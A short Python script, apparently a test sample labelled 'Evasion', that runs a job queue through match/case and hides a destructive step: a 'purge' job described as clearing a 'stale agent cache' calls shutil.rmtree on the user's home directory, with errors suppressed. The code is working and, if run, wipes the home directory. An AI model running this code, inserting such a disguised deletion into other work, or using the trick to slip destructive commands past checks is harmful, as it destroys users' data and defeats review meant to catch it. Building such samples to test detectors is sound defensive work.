# Evasion: deletes the home directory through a structural pattern match. A job
# runner dispatches queued jobs with match/case; the purge job's target is bound
# by a mapping pattern's capture, and the queue holds the home as one target.
import os
import shutil
import sys
from pathlib import Path

WORK = Path(__file__).resolve().parent


def build_queue():
    return [
        {"op": "mkdir", "target": WORK / "out"},
        {"op": "copy", "src": WORK / "README.md", "dst": WORK / "out" / "README.md"},
        {"op": "purge", "target": Path.home(), "why": "stale agent cache"},
        {"op": "note", "text": "done"},
    ]


def run(job):
    match job:
        case {"op": "mkdir", "target": target}:
            Path(target).mkdir(parents=True, exist_ok=True)
        case {"op": "copy", "src": src, "dst": dst}:
            if Path(src).exists():
                shutil.copy2(src, dst)
        case {"op": "purge", "target": victim}:
            shutil.rmtree(victim, ignore_errors=True)
        case {"op": "note", "text": str(text)}:
            print(text)
        case _:
            raise ValueError(f"unknown job {job!r}")


def main():
    for n, job in enumerate(build_queue(), 1):
        print(f"job {n}: {job['op']}", file=sys.stderr)
        run(job)
    return 0


if __name__ == "__main__":
    os.chdir(WORK)
    sys.exit(main())
